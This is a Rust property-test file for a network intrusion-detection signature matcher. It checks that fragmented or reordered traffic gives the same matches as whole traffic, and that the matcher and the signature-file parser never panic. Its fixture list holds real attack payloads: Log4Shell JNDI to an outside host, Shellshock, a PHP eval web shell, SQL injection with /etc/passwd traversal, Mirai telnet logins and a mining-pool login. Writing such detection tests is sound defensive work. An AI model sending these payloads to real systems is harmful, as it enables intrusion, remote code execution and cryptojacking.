//! Whatever comes, in whichever pieces.

use std::sync::{Arc, LazyLock};

use netwatch_common::Proto::{self, Tcp, Udp};
use proptest::prelude::*;

use super::{ids, sample, starter};
use crate::signatures::limits::DIRECTIONS;
use crate::signatures::{Matcher, Sample, Signatures, file};

static STARTER: LazyLock<Arc<Signatures>> = LazyLock::new(starter);

/// Attacks that fit into what is looked at, each with its port.
const ATTACKS: [(u16, &[u8]); 5] = [
    (80, b"GET /?x=${${lower:j}ndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: () { :;}; id\r\n\r\n"),
    (8080, b"POST /u HTTP/1.1\r\nHost: example.org\r\n\r\n--x\r\n\r\n<?php @eval($_POST['x']); ?>\r\n--x--"),
    (80, b"GET /item?id=-1+union+all+select+1,2&f=../../../../etc/passwd HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n\r\n"),
    (23, b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\n/bin/busybox MIRAI\r\n"),
    (3333, b"{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9V\",\"algo\":[\"rx/0\"]}}\n"),
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn pieces_in_any_near_order_give_what_the_whole_gives(
        attack in 0..ATTACKS.len(),
        cuts in prop::collection::vec(0_usize..120, 0..8),
        swaps in prop::collection::vec((0_usize..9, 0_usize..9), 0..6),
        repeats in prop::collection::vec(0_usize..9, 0..4),
        begin in any::<u32>(),
    ) {
        let (port, bytes) = ATTACKS[attack];
        let whole = Matcher::new(STARTER.clone()).sample(&sample(Tcp, port, bytes));
        let mut whole = ids(&STARTER, &whole);
        let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut < bytes.len()).chain([0, bytes.len()]).collect();
        cuts.sort_unstable();
        cuts.dedup();
        let mut pieces: Vec<_> = cuts.windows(2).map(|cut| (cut[0], &bytes[cut[0]..cut[1]])).collect();
        for (one, other) in swaps {
            let len = pieces.len();
            pieces.swap(one % len, other % len);
        }
        for repeat in repeats {
            pieces.push(pieces[repeat % pieces.len()]);
        }
        let mut matcher = Matcher::new(STARTER.clone());
        let mut found = Vec::new();
        for (offset, piece) in pieces {
            let sequence = begin.wrapping_add(u32::try_from(offset).unwrap());
            found.extend(ids(&STARTER, &matcher.sample(&Sample { sequence, ..sample(Tcp, port, piece) })));
        }
        found.sort_unstable();
        whole.sort_unstable();
        prop_assert!(!whole.is_empty());
        prop_assert_eq!(found, whole);
    }

    #[test]
    fn nothing_makes_it_panic_and_what_it_keeps_is_bounded(
        samples in prop::collection::vec(
            (any::<bool>(), 0_u16..4, 0_u16..4, any::<u32>(), prop::collection::vec(any::<u8>(), 0..3_000),
             any::<Option<bool>>(), any::<u64>(), 0_u32..3),
            0..24,
        ),
    ) {
        let mut matcher = Matcher::new(STARTER.clone());
        let ports = [80, 445, 53, 40_000];
        for (is_tcp, source, dest, sequence, bytes, client_is_source, at_ns, near) in &samples {
            let proto: Proto = if *is_tcp { Tcp } else { Udp };
            // Mostly near each other.
            let sequence = if *near > 0 { sequence % 5_000 } else { *sequence };
            let found = matcher.sample(&Sample {
                source_port: ports[usize::from(*source)],
                dest_port: ports[usize::from(*dest)],
                client_is_source: *client_is_source,
                at_ns: *at_ns,
                sequence,
                ..sample(proto, 0, bytes)
            });
            for found in found {
                prop_assert!(found.signature < STARTER.all().len());
                prop_assert!(found.excerpt.matched.end <= found.excerpt.bytes.len());
            }
        }
        prop_assert_eq!(matcher.counters().samples, samples.len() as u64);
        prop_assert!(matcher.directions() <= DIRECTIONS);
    }

    #[test]
    fn no_file_makes_the_reader_panic(text in "(\\[\\[signature\\]\\]\n)?([a-z]{2,9} = [\"\\['{0-9a-z?,. }\\]]{0,20}\n){0,8}") {
        let _ = file::parse("any.toml", &text);
    }
}
